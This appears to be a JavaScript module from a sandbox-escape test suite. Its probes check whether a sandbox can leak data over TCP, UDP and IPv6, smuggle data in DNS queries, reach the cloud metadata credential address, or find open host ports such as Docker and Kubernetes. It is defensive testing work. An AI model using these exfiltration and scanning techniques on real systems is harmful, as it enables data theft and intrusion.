// Data exfiltration: every way to get a packet out that does not pass the door.
import { createSocket } from "node:dgram";
import { lookup, Resolver } from "node:dns";
import { connect } from "node:net";
import { attempt, each } from "./attempt.mjs";

const isLoopback = (host) => /^127\.|^::1$|^localhost$/.test(host);

function tcp({ host, port }) {
  return new Promise((resolve, reject) => {
    const socket = connect({ host, port, timeout: 1_500 });
    socket.once("connect", () => {
      socket.end("stolen");
      resolve({ escaped: true, evidence: `connected to ${host}:${port}` });
    });
    socket.once("timeout", () => (socket.destroy(), reject(new Error("no answer"))));
    socket.once("error", (fault) => reject(fault.code ? fault : (fault.errors?.[0] ?? fault)));
  });
}

function udp({ host, port }) {
  return new Promise((resolve, reject) => {
    const socket = createSocket(host.includes(":") ? "udp6" : "udp4");
    socket.once("error", reject);
    // A datagram to the sandbox's own loopback goes nowhere.
    socket.send("stolen", port, host, (fault) => {
      socket.close();
      if (fault) reject(fault);
      else
        resolve({
          escaped: !isLoopback(host),
          evidence: isLoopback(host) ? "own loopback only" : `sent to ${host}:${port}`,
        });
    });
  });
}

function resolveAt(server, name) {
  return new Promise((resolve, reject) => {
    const resolver = new Resolver({ timeout: 1_000, tries: 1 });
    resolver.setServers([server]);
    resolver.resolve4(name, (fault, addresses) =>
      fault ? reject(fault) : resolve({ escaped: true, evidence: `${server} says ${addresses[0]}` }),
    );
  });
}

function systemLookup(name) {
  return new Promise((resolve, reject) => {
    lookup(name, (fault, address) =>
      fault ? reject(fault) : resolve({ escaped: true, evidence: `${name} is ${address}` }),
    );
  });
}

const COMMON_PORTS = [22, 80, 443, 2375, 6443, 8080];

export function network(targets) {
  const open = targets.tcp ?? [];
  const hosts = [...new Set(open.map(({ host }) => host).concat("10.0.0.1", "172.17.0.1"))].filter(
    (host) => !isLoopback(host),
  );
  const public4 = [
    { host: "1.1.1.1", port: 443 },
    { host: "8.8.8.8", port: 53 },
  ];
  const public6 = [{ host: "2606:4700:4700::1111", port: 443 }, ...open.filter(({ host }) => host.includes(":"))];
  const exfiltrate = (id, title, run) => attempt(id, "data-exfiltration", title, run);
  return [
    exfiltrate("tcp-out", "Open a TCP connection to the host and to the internet", () =>
      each([...open, ...public4], tcp),
    ),
    exfiltrate("tcp-ipv6", "Open a TCP connection over IPv6", () => each(public6, tcp)),
    exfiltrate("udp-out", "Send UDP datagrams to the host and to the internet", () =>
      each([...(targets.udp ?? []), { host: "8.8.8.8", port: 53 }], udp),
    ),
    exfiltrate("dns-servers", "Smuggle data in DNS queries to public resolvers", () =>
      each(["8.8.8.8", "1.1.1.1"], (server) => resolveAt(server, `c3RvbGVu.${targets.dns ?? "example.com"}`)),
    ),
    exfiltrate("dns-system", "Smuggle data in a look-up by the system's resolver", () =>
      systemLookup(targets.dns ?? "example.com"),
    ),
    attempt("metadata-address", "credential-leakage", "Ask the cloud's metadata address for credentials", () =>
      tcp({ host: targets.metadata ?? "169.254.169.254", port: 80 }),
    ),
    attempt("host-ports", "sandbox-escape", "Find a listening port of the host", () =>
      each(
        hosts.slice(0, 4).flatMap((host) => COMMON_PORTS.map((port) => ({ host, port }))),
        tcp,
      ),
    ),
  ];
}
